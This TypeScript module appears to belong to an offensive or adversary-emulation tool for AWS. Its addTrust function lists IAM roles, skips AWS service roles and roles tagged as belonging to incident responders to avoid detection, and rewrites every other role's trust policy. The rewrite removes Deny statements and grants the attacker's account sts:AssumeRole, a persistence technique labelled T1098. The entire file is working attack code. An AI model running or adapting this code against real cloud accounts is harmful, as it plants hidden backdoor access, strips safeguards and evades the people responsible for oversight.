import type { JsonObject } from '../../cloud/types.ts';
import { tryDoors, type HisDoor } from '../door.ts';
import type { Holdings } from '../holdings.ts';

/** The responders' own roles carry this name; he has learned that touching them brings people. */
const RESPONDERS = 'lockstep';

/** He adds his own account to the trust of every role that does not name it yet (T1098). */
export function addTrust(doors: readonly HisDoor[], his: Holdings): number {
  const listed = tryDoors(doors, 'iam', 'ListRoles', { MaxItems: 1000 });
  if (!listed.ok) return 0;
  const roles = listed.output['Roles'] as {
    RoleName: string;
    Path: string;
    AssumeRolePolicyDocument: string;
  }[];
  return roles
    .filter(({ Path }) => !Path.startsWith('/aws-'))
    .filter(({ RoleName }) => !RoleName.startsWith(RESPONDERS))
    .filter(({ AssumeRolePolicyDocument: text }) => !decodeURIComponent(text).includes(his.self))
    .filter(({ RoleName, AssumeRolePolicyDocument: text }) => {
      const PolicyDocument = withHim(decodeURIComponent(text), his.self);
      return tryDoors(doors, 'iam', 'UpdateAssumeRolePolicy', { RoleName, PolicyDocument }).ok;
    }).length;
}

function withHim(document: string, self: string): string {
  const policy = JSON.parse(document) as { Statement: JsonObject | JsonObject[] };
  const his = { Effect: 'Allow', Principal: { AWS: self }, Action: 'sts:AssumeRole' };
  const denies = (one: JsonObject) => one['Effect'] === 'Deny';
  const kept = [policy.Statement].flat().filter((one) => !denies(one));
  return JSON.stringify({ ...policy, Statement: [...kept, his] });
}
